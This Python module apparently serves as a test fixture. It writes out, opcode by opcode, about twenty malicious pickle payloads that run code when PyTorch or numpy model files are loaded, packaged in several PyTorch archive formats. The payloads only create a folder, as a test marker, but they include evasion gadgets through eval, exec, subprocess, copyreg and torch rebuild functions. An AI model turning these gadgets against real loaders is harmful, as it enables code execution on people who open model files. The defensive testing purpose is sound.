"""Files that act when they are read without care: pickles as programs, written instruction by instruction."""

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from zsad.tensors.archives import MAGIC

Make = Callable[[str], bytes]


def text(value: str) -> bytes:
    """A text, as an instruction."""
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def named(module: str, name: str) -> bytes:
    """Look up a name."""
    return b"c" + f"{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Call what has that name."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def new(module: str, name: str, state: bytes) -> bytes:
    """Make an object without arguments, and give it a state."""
    return named(module, name) + b")\x81" + state + b"b"


def entry(value: bytes) -> bytes:
    """A state dict with that value where a tensor of CLIP should be."""
    return b"\x80\x02}" + text("visual.conv1.weight") + value + b"s."


def evil(path: str) -> bytes:
    """What runs, in the simplest form."""
    return call("os", "mkdir", text(path))


ACTING: dict[str, Make] = {
    "os.mkdir": evil,
    "os.system": lambda path: call("os", "system", text(f"mkdir '{path}'")),
    "posix.system": lambda path: call("posix", "system", text(f"mkdir '{path}'")),
    "builtins.eval": lambda path: call("builtins", "eval", text(f"__import__('os').mkdir({path!r})")),
    "builtins.exec": lambda path: call("builtins", "exec", text(f"import os; os.mkdir({path!r})")),
    "the name of Python 2": lambda path: call("__builtin__", "eval", text(f"__import__('os').mkdir({path!r})")),
    "a chain of calls": lambda path: (
        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("mkdir")) + text(path) + b"\x85R"
    ),
    "a partial function": lambda path: call("functools", "partial", named("os", "mkdir"), text(path)) + b")R",
    "a process": lambda path: call("subprocess", "call", b"]" + b"(" + text("mkdir") + text(path) + b"e"),
    "text instructions": lambda path: b"(S" + repr(path).encode() + b"\nios\nmkdir\n",
    "an object of old": lambda path: b"(" + named("os", "mkdir") + text(path) + b"o",
    "names from the stack": lambda path: text("os") + text("mkdir") + b"\x93" + text(path) + b"\x85R",
    "new with keywords": lambda path: named("collections", "OrderedDict") + b")}\x920" + evil(path),
    "a state that acts": lambda path: new("collections", "OrderedDict", b"}" + text("a") + evil(path) + b"s"),
    "an ordered dictionary of what acts": lambda path: call(
        "collections", "OrderedDict", b"](" + text("a") + evil(path) + b"\x86e"
    ),
    "a number registered for a name": lambda path: (
        call("copyreg", "add_extension", text("os"), text("mkdir"), b"K\xf0") + b"0\x82\xf0" + text(path) + b"\x85R"
    ),
    "a pickle within torch": lambda path: call(
        "torch.storage", "_load_from_bytes", call("_codecs", "encode", text(inner(path)), text("latin1"))
    ),
    "a tensor of somebody's class": lambda path: call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        named("os", "mkdir"),
        named("torch", "Tensor"),
        b"(" + text(path) + b"t",
        b"}",
    ),
    "an array of objects": lambda path: (
        b"]("
        + call("numpy._core.multiarray", "_reconstruct", named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
        + b"(K\x01K\x01\x85"
        + call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
        + b"\x89]"
        + evil(path)
        + b"atb"
        + b"e"
    ),
    "a state for a parameter": lambda path: call(
        "torch._utils", "_rebuild_parameter_with_state", evil(path), b"\x88", call("collections", "OrderedDict"), b"}"
    ),
}
"""Pickles that make a folder where they are unpickled."""


def inner(path: str) -> str:
    """A stream of PyTorch, as text, that acts."""
    return stream(entry(evil(path))).decode("latin1")


def stream(content: bytes) -> bytes:
    """What PyTorch wrote before 2020."""
    head = pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return head + content + pickle.dumps([], 2)


def archive(content: bytes, arrays: dict[str, bytes] | None = None, torchscript: bool = False) -> bytes:
    """What PyTorch writes since."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("archive/data.pkl", content)
        file.writestr("archive/version", "3\n")
        for key, array in (arrays or {}).items():
            file.writestr(f"archive/data/{key}", array)
        if torchscript:
            file.writestr("archive/constants.pkl", b"\x80\x02).")
    return made.getvalue()


FORMS: dict[str, Callable[[bytes], bytes]] = {
    "archive": archive,
    "torchscript": lambda content: archive(content, torchscript=True),
    "stream": stream,
    "pickle": bytes,
}


def written(path: Path, content: bytes) -> Path:
    """The file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path
